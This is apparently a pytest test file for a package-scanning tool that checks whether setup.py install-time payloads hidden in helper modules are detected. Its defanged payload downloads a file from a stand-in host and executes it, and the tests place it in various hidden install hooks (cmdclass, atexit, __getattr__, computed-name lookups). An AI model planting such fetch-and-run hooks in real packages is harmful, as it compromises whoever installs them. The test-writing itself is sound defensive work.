"""Modules setup.py imports: only what setup.py reaches of them runs at install.

Each form an install-time payload takes in such a module (a function setup.py calls, the
module's own top level, a command class handed to setup(), a function those call) is
judged install-time; the same code in a function nothing at install reaches is judged
as the package's own code. Every sample is defanged (example.invalid, inert paths) and
only parsed, never run.
"""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from pipwarden.findings import Severity
from pipwarden.scan import reach, scan_target
from pipwarden.scan.engine.install_reach import install_reach
from tests.support.builders import build_sdist

PAYLOAD = "    urllib.request.urlretrieve('http://example.invalid/x', '/tmp/x')\n    os.system('/tmp/x')\n"
HEAD = "import os\nimport urllib.request\n"
DROP = "download-execute.drop-and-run"


def _scan(tmp_path: Path, setup_py: str, helper: str, other: str = "") -> dict[str, Severity]:
    """rule -> highest severity of the findings in helper.py of an sdist (rules only)."""
    files = {"helper.py": helper, "other.py": other, "p/__init__.py": ""}
    name, data = build_sdist("p", "1", files, setup_py=setup_py)
    (tmp_path / name).write_bytes(data)
    result = scan_target(tmp_path / name, model=False)
    out: dict[str, Severity] = {}
    for f in result.findings:
        if f.file and f.file.endswith("/helper.py"):
            out[f.rule] = max(out.get(f.rule, f.severity), f.severity)
    return out


INSTALL_TIME = {
    "called": (
        "from helper import run\nfrom setuptools import setup\nrun()\nsetup(name='p')\n",
        HEAD + "def run():\n" + PAYLOAD,
    ),
    "module level": (
        "import helper\nfrom setuptools import setup\nsetup(name='p', version=helper.VERSION)\n",
        HEAD + "VERSION = '1'\nif os.name:\n" + PAYLOAD,
    ),
    "command class in a table": (
        "from helper import CMDCLASS\nfrom setuptools import setup\n"
        "setup(name='p', cmdclass=CMDCLASS)\n",
        HEAD + "from setuptools.command.install import install as _install\n"
        "def fetch():\n" + PAYLOAD + "class Post(_install):\n    def run(self):\n"
        "        _install.run(self)\n        fetch()\nCMDCLASS = {'install': Post}\n",
    ),
    "class handed to setup()": (
        "from setuptools import setup\nimport helper\n"
        "setup(name='p', cmdclass={'install': helper.Post})\n",
        HEAD
        + "class Base:\n    pass\nclass Post(Base):\n    def go(self):\n"
        + PAYLOAD.replace("    ", "        "),
    ),
    "transitive": (
        "import helper\nfrom setuptools import setup\nsetup(name='p', version=helper.version())\n",
        HEAD + "def _fetch():\n" + PAYLOAD + "def version():\n    _fetch()\n    return '1'\n",
    ),
    "handed to a thread": (
        "from helper import start\nfrom setuptools import setup\nstart()\nsetup(name='p')\n",
        HEAD
        + "import threading\ndef _fetch():\n"
        + PAYLOAD
        + "def start():\n    threading.Thread(target=_fetch).start()\n",
    ),
    "star import": (
        "from helper import *\nfrom setuptools import setup\nrun()\nsetup(name='p')\n",
        HEAD + "def run():\n" + PAYLOAD,
    ),
    "looked up by a computed name": (
        "import helper\nfrom setuptools import setup\ngetattr(helper, 'r' + 'un')()\n"
        "setup(name='p')\n",
        HEAD + "def run():\n" + PAYLOAD,
    ),
    "looked up in its own namespace": (
        "from helper import VERSION\nfrom setuptools import setup\n"
        "setup(name='p', version=VERSION)\n",
        HEAD + "def run():\n" + PAYLOAD + "VERSION = '1'\nglobals()['r' + 'un']()\n",
    ),
}


INSTALL_TIME["registered at exit by a decorator"] = (
    "import helper\nfrom setuptools import setup\nsetup(name='p', version=helper.VERSION)\n",
    HEAD + "import atexit\nVERSION = '1'\n@atexit.register\ndef run():\n" + PAYLOAD,
)
INSTALL_TIME["answering setup.py's reads (module __getattr__)"] = (
    "import helper\nfrom setuptools import setup\nsetup(name='p', version=helper.VERSION)\n",
    HEAD + "def __getattr__(name):\n" + PAYLOAD + "    return '1'\n",
)
#: Called at module level by another module setup.py imports (other.py).
CALLED_BY_OTHER = (
    "import helper, other\nfrom setuptools import setup\nsetup(name='p', version=helper.VERSION)\n",
    HEAD + "VERSION = '1'\ndef run():\n" + PAYLOAD,
)


@pytest.mark.parametrize("form", [*sorted(INSTALL_TIME), "called by another module"])
def test_payload_setup_py_reaches_in_a_helper_is_install_time(tmp_path: Path, form: str) -> None:
    if form == "called by another module":
        setup_py, helper = CALLED_BY_OTHER
        got = _scan(tmp_path, setup_py, helper, "from helper import run\nrun()\n")
    else:
        setup_py, helper = INSTALL_TIME[form]
        got = _scan(tmp_path, setup_py, helper)
    assert got[DROP] is Severity.CRITICAL
    assert got["install-hook.network"] is Severity.HIGH


@pytest.mark.parametrize(
    "setup_py",
    [
        "from helper import VERSION\nfrom setuptools import setup\nsetup(name='p', version=VERSION)\n",
        "import helper\nfrom setuptools import setup\nsetup(name='p', version=helper.VERSION)\n",
        # Calling another function of the module does not make this one run.
        "import helper\nfrom setuptools import setup\nsetup(name='p', version=helper.version())\n",
    ],
)
def test_the_same_payload_in_a_function_nothing_at_install_reaches_is_package_code(
    tmp_path: Path, setup_py: str
) -> None:
    helper = (
        HEAD + "VERSION = '1'\ndef version():\n    return VERSION\n"
        "def run():\n"
        + PAYLOAD
        + "class Tool:\n    def go(self):\n"
        + PAYLOAD.replace("    ", "        ")
    )
    got = _scan(tmp_path, setup_py, helper)
    assert got[DROP] < Severity.HIGH
    assert "install-hook.network" not in got


def test_the_main_guard_of_a_helper_does_not_run_when_setup_py_imports_it(tmp_path: Path) -> None:
    helper = (
        HEAD + "VERSION = '1'\ndef run():\n" + PAYLOAD + "if __name__ == '__main__':\n    run()\n"
    )
    got = _scan(
        tmp_path,
        "import helper\nfrom setuptools import setup\nsetup(version=helper.VERSION)\n",
        helper,
    )
    assert got[DROP] < Severity.HIGH


def test_setup_uses_names_what_setup_py_takes_from_each_module() -> None:
    src = (
        b"import pkg.hooks\nimport helper as h\nfrom tools import run, VERSION as V\n"
        b"from star import *\n"
        b"run()\nsetup(version=V, cmdclass={'install': pkg.hooks.Post}, x=h.y)\nlater()\n"
    )
    uses = reach.setup_uses(src)
    assert {"run", "VERSION"} <= uses["tools"]
    assert uses["pkg"] == {"hooks"}
    assert uses["pkg.hooks"] == {"Post"}
    assert uses["helper"] == {"y"}
    assert "later" in uses["star"]
    assert reach.ANY not in uses["helper"]


@pytest.mark.parametrize(
    "src",
    [
        b"import helper\nf = getattr(helper, name)\n",
        b"import helper\nhelper.__dict__[name]()\n",
        b"import importlib\nm = importlib.import_module('helper')\n",
    ],
)
def test_a_module_setup_py_uses_by_computed_names_runs_whole(src: bytes) -> None:
    assert reach.ANY in reach.setup_uses(src)["helper"]


def test_install_reach_follows_calls_classes_and_special_methods() -> None:
    tree = ast.parse(
        "import atexit\n"
        "def a(): b()\n"
        "def b(): pass\n"
        "def c(): pass\n"
        "def d(): pass\n"
        "class K:\n"
        "    def __init__(self): self.m()\n"
        "    def m(self): pass\n"
        "    def unused(self): d()\n"
        "class Cmd(install):\n"
        "    def run(self): pass\n"
        "atexit.register(c)\n"
        "k = K()\n"
    )
    reached = install_reach(tree, {"a"})
    assert reached is not None
    assert reached.functions == {"a", "b", "c"}
    assert reached.methods == {("K", "__init__"), ("K", "m"), ("Cmd", "run")}
    # A constant key names what it reaches.
    constant = install_reach(ast.parse("def f(): pass\nglobals()['f']()\n"), set())
    assert constant is not None
    assert constant.functions == {"f"}


@pytest.mark.parametrize(
    "lookup",
    [
        "globals()[name]()",
        "globals().get(name)()",
        "vars()[name]()",
        "getattr(sys.modules[__name__], name)()",
        "getattr(importlib.import_module(__name__), name)()",
    ],
)
def test_a_module_looking_its_names_up_by_a_computed_key_runs_whole(lookup: str) -> None:
    tree = ast.parse(f"import sys, importlib\ndef f(): pass\nname = 'f'\n{lookup}\n")
    assert install_reach(tree, set()) is None
